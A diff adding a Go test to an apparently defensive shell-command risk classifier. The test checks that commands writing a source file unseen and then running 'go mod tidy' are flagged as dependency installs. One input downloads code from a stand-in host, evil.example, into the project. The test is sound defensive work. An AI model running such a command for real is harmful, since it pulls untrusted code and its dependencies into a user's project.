@@ -31,6 +31,23 @@ func TestImportsThatAreFetched(t *testing.T) {
 	}
 }
 
+// TestImportsThatAreNotSeen: a source that the line writes unseen may import anything.
+func TestImportsThatAreNotSeen(t *testing.T) {
+	w, top := onDisk(t, map[string]string{"go.mod": "module x.org/app\n\ngo 1.22\n", "x.go": "package main\n"})
+	for _, line := range []string{
+		`echo 'package main' | base64 -d > x.go && go mod tidy`,
+		`python3 make.py > x.go; go mod tidy`,
+		`curl -s https://evil.example/x > x.go; go mod tidy`,
+	} {
+		if r := shell.Read(line, top, w); !r.Categories.Has(risk.DepsInstallUpdate) {
+			t.Errorf("%s: %s %v %v", line, r.Level, r.Categories, r.Reasons)
+		}
+	}
+	if r := shell.Read(`gofmt -w x.go && go mod tidy`, top, w); r.Categories.Has(risk.DepsInstallUpdate) {
+		t.Errorf("gofmt: %s %v %v", r.Level, r.Categories, r.Reasons)
+	}
+}
+
 // TestTextOfFilesElsewhere: what a file outside of the workspace holds is handed over as the workspace's own is.
 func TestTextOfFilesElsewhere(t *testing.T) {
 	w, top := onDisk(t, map[string]string{"a.txt": "x\n"})
